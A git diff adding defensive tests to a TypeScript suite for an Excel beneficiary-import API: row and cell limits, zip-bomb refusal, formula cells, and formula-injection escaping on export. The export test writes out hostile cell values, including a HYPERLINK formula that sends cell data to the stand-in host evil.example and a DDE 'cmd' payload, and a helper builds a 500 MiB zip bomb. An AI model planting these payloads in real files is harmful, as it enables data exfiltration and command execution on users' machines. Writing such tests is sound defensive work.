@@ -1,7 +1,12 @@
 import ExcelJS from 'exceljs';
+import { registerExport } from '#read-models';
 import { API_BACKENDS, caughtUp, client, countEvents, leavesLogUnchanged as leavesLogUnchangedIn, ok, type Reply, type RunningApi, signInPeople, startApi } from './testing/api-backends.fixture.js';
+import { bombOf, entryOf, rowXml, SHEET, SHEET_HEAD, SHEET_TAIL, WORKBOOK_PARTS, workbookOf, zipOf } from '../../../test/support/workbook-files.js';
 
-type Row = [string, string | Date, string | number, string, string, number | string, string];
+type Row = [string, string | Date | ExcelJS.CellFormulaValue, string | number, string, string, number | string, string];
+
+const HEADINGS = ['Họ và tên', 'Ngày sinh (dd/mm/yyyy)', 'Số định danh cá nhân (CCCD)', 'Chức vụ', 'Đơn vị', 'Đối tượng (1–6)', 'Hưởng từ ngày (dd/mm/yyyy)'];
+const MiB = 1024 * 1024;
 
 describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (_name, setup) => {
   let api: RunningApi;
@@ -35,7 +40,7 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(template as unknown as ArrayBuffer);
     const sheet = book.worksheets[0]!;
-    expect(sheet.getRow(1).values).toEqual([undefined, 'Họ và tên', 'Ngày sinh (dd/mm/yyyy)', 'Số định danh cá nhân (CCCD)', 'Chức vụ', 'Đơn vị', 'Đối tượng (1–6)', 'Hưởng từ ngày (dd/mm/yyyy)']);
+    expect(sheet.getRow(1).values).toEqual([undefined, ...HEADINGS]);
     expect(sheet.getRow(2).getCell(1).value).toBe('Full name');
     expect(book.worksheets.map((s) => s.name)).toEqual(['Danh sách', 'Hướng dẫn - Instructions']);
   });
@@ -91,5 +96,78 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     });
     await leavesLogUnchanged(as.clerk.post('/beneficiaries/imports', {}), 400, { fields: [expect.objectContaining({ field: 'file' })] });
     await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports?validRowsOnly=maybe', await listOf([]), 'x.xlsx'), 400, { fields: [expect.objectContaining({ field: 'validRowsOnly' })] });
+  });
+
+  it('reads a sheet by the rows it holds: one cell at row 3,000,000 is one row, not three million', async () => {
+    const book = new ExcelJS.Workbook();
+    const sheet = book.addWorksheet('Danh sách');
+    sheet.addRow(HEADINGS);
+    sheet.getCell('A3000000').value = 'Hoàng Văn An';
+    const file = new Uint8Array(await book.xlsx.writeBuffer());
+    expect(file.length).toBeLessThan(10_000);
+    const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', file, 'xa.xlsx'), 422, { outcome: 'rejected', rows: 1 });
+    expect(new Set(rejected.body.errors.map((error: { row: number }) => error.row))).toEqual(new Set([3_000_000]));
+  });
+
+  it('refuses a sheet of more rows or cells than configured, naming the limit, and appends nothing', async () => {
+    const people = Array.from({ length: 10_000 }, (_, n) => rowXml(n + 2, [`Người ${n}`])).join('');
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + people), 'dai.xlsx'), 422, {
+      error: 'Unprocessable Entity',
+      rule: 'TooManyRows',
+      limit: 'IMPORT_MAX_ROWS',
+      max: 10_000,
+      fields: [{ field: 'file', message: expect.stringContaining('10,000 rows') }],
+    });
+    const wide = Array.from({ length: 7 }, (_, n) => rowXml(n + 2, Array.from({ length: 16_384 }, () => 'x'))).join('');
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', workbookOf(rowXml(1, HEADINGS) + wide), 'rong.xlsx'), 422, { rule: 'TooManyCells', limit: 'IMPORT_MAX_CELLS', max: 100_000 });
+  });
+
+  it('refuses a sheet declared larger than the limit without inflating it, and one that inflates past the limit whatever it declares', async () => {
+    const headings = `${SHEET_HEAD}${rowXml(1, HEADINGS)}`;
+    // Inflates to a few hundred bytes: only the central directory's figure can refuse it.
+    const declaredLarge = { ...entryOf(SHEET, `${headings}${SHEET_TAIL}`), declaredSize: 500 * MiB };
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', zipOf([...WORKBOOK_PARTS, declaredLarge]), 'lon.xlsx'), 422, {
+      rule: 'SheetTooLarge',
+      limit: 'IMPORT_MAX_SHEET_BYTES',
+      max: 16 * MiB,
+      fields: [{ field: 'file', message: expect.stringContaining('xl/worksheets/sheet1.xml') }],
+    });
+    // 500 MiB of blank space in a file of a few hundred KiB, declaring a harmless size.
+    const bomb = bombOf(SHEET, { head: headings, middle: ' '.repeat(MiB), times: 500, tail: SHEET_TAIL }, 4096);
+    const file = zipOf([...WORKBOOK_PARTS, bomb]);
+    expect(file.length).toBeLessThan(MiB);
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', file, 'bom.xlsx'), 422, { rule: 'SheetTooLarge', limit: 'IMPORT_MAX_SHEET_BYTES' });
+  });
+
+  it("takes a formula cell's cached value, and refuses the row of a formula without one, naming its row and column", async () => {
+    const list = await listOf([
+      ['Hoàng Thị Hoa', { formula: 'DATE(1985,3,4)', result: '04/03/1985' }, '020185000808', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
+      ['Vi Văn Khánh', { formula: 'CONCATENATE("01/0","2/1986")' }, '020086000909', 'Trưởng phòng', 'Huyện Bắc Sơn', 5, '01/01/2025'],
+    ]);
+    const rejected = await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', list, 'cong-thuc.xlsx'), 422, { outcome: 'rejected', rows: 2 });
+    expect(rejected.body.errors).toEqual([expect.objectContaining({ row: 4, field: 'dateOfBirth', code: 'formula', en: expect.stringContaining('row 4, column B') })]);
+    expect(await ok(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'cong-thuc.xlsx'))).toMatchObject({ imported: 1, skipped: 1 });
+    await caughtUp(api);
+    expect((await ok(as.auditor.get('/beneficiaries?name=Hoàng Thị Hoa'))).beneficiaries).toEqual([expect.objectContaining({ dateOfBirth: '1985-03-04' })]);
+  });
+
+  it('exports the register with every text cell that could run as a formula neutralised, and takes the export back as it is', async () => {
+    const list = await listOf([
+      ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '05/05/1985', '020085000505', "+cmd|' /C calc'!A0", '@SUM(1+1)', 4, '01/01/2025'],
+      ['-2+3', '06/06/1986', '020086000606', '=1+1', 'Huyện Bắc Sơn', 4, '01/01/2025'],
+    ]);
+    await ok(as.clerk.upload('/beneficiaries/imports', list, 'doc-hai.xlsx'));
+    await caughtUp(api);
+
+    const csv = ((await registerExport(api.runtime.pool, 'csv')).body as string).split('\r\n');
+    expect(csv.find((line) => line.includes('020085000505'))).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Xem""\)",05\/05\/1985,020085000505,'\+cmd\|' \/C calc'!A0,'@SUM\(1\+1\),4,01\/01\/2025,registered,/);
+    expect(csv.find((line) => line.includes('020086000606'))).toMatch(/^'-2\+3,06\/06\/1986,020086000606,'=1\+1,Huyện Bắc Sơn,4,/);
+
+    const exported = (await registerExport(api.runtime.pool, 'xlsx')).body as Buffer;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(exported as unknown as ArrayBuffer);
+    const rows = book.worksheets[0]!.getSheetValues().filter((row) => Array.isArray(row) && row.includes('020085000505'));
+    expect(rows).toEqual([[undefined, `'=HYPERLINK("http://evil.example/?"&A1,"Xem")`, '05/05/1985', '020085000505', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", 4, '01/01/2025', 'registered', expect.any(String)]]);
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new Uint8Array(exported), 'so-dang-ky.xlsx'), 200, { outcome: 'imported', imported: 0, errors: [] });
   });
 });
